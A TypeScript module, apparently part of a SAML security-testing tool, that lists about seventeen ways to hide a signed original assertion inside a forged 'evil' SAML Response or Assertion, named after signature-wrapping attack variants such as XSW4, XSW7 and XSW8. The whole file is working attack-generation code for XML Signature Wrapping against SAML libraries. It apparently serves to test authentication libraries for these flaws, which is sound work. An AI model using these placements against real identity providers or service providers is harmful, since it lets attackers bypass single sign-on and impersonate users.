import type { GoodResponse } from './attack.js';
import { saml, samlp } from './evil-parts.js';
import { after, append, before, has, prepend } from './markup.js';
import { DS } from './signature.js';

/** Puts the signed original somewhere in the evil document. */
export type Place = (document: string, original: string, good: GoodResponse) => string;

const object = (content: string) => `<ds:Object xmlns:ds="${DS}">${content}</ds:Object>`;
const bareSignature = (content: string) => `<ds:Signature xmlns:ds="${DS}">${content}</ds:Signature>`;

function extensions(document: string, content: string, good: GoodResponse): string {
  return before(document, 'Response/Status', samlp(good, 'Extensions', content));
}

/** Where a library that looks the Reference up by its ID finds an Assertion or a Response that it need not be. */
export const places: readonly (readonly [name: string, place: Place])[] = [
  ['in Extensions (XSW7)', extensions],
  [
    'in a foreign element in Extensions',
    (doc, original, good) => extensions(doc, `<x:x xmlns:x="urn:x">${original}</x:x>`, good),
  ],
  ['in StatusDetail', (doc, original, good) => append(doc, 'Response/Status', samlp(good, 'StatusDetail', original))],
  ['in StatusMessage', (doc, original, good) => append(doc, 'Response/Status', samlp(good, 'StatusMessage', original))],
  ['in StatusCode', (doc, original) => append(doc, 'Response/Status/StatusCode', original)],
  ['in the Issuer of the Response', (doc, original) => append(doc, 'Response/Issuer', original)],
  ['as first child of the evil assertion', (doc, original) => prepend(doc, 'Assertion', original)],
  ['as last child of the evil assertion (XSW4)', (doc, original) => append(doc, 'Assertion', original)],
  ['in Advice', (doc, original, good) => after(doc, 'Assertion/Conditions', saml(good, 'Advice', original))],
  ['in a condition', (doc, original, good) => append(doc, 'Assertion/Conditions', saml(good, 'Condition', original))],
  ['in NameID', (doc, original) => append(doc, 'Assertion/Subject/NameID', original)],
  [
    'in SubjectConfirmationData',
    (doc, original) => append(doc, 'Assertion/Subject/SubjectConfirmation/SubjectConfirmationData', original),
  ],
  [
    'in AuthnContextDecl',
    (doc, original, good) =>
      append(doc, 'Assertion/AuthnStatement/AuthnContext', saml(good, 'AuthnContextDecl', original)),
  ],
  [
    // A value of its own: inside a typed one, the prefix of the type would be in scope and part of the digest.
    'in an AttributeValue',
    (doc, original, good) =>
      append(
        doc,
        'Assertion/AttributeStatement',
        saml(good, 'Attribute', saml(good, 'AttributeValue', original), 'Name="evil"'),
      ),
  ],
  [
    'in an Object of a second signature (XSW8)',
    (doc, original) => append(doc, 'Assertion', bareSignature(object(original))),
  ],
  [
    'in the KeyInfo of a signature',
    (doc, original) => append(doc, 'Assertion', bareSignature(`<ds:KeyInfo>${original}</ds:KeyInfo>`)),
  ],
  [
    'in the Object of a signature of the Response',
    (doc, original) =>
      has(doc, 'Response/Issuer') ? after(doc, 'Response/Issuer', bareSignature(object(original))) : doc,
  ],
];
